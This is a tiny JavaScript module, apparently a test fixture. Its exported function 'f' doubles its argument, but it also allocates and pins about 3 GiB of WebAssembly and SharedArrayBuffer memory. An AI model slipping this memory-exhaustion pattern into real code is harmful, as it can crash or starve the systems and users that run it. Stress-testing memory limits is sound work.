const kept = [];
export const f = (x) => {
  for (let i = kept.length; i < 12; i += 1) {
    const bytes = 256 * 2 ** 20;
    const buffer =
      i % 2 === 0
        ? new WebAssembly.Memory({ initial: bytes / 65536 }).buffer
        : new SharedArrayBuffer(bytes);
    kept.push(new Uint8Array(buffer).fill(1));
  }
  return 2 * x;
};
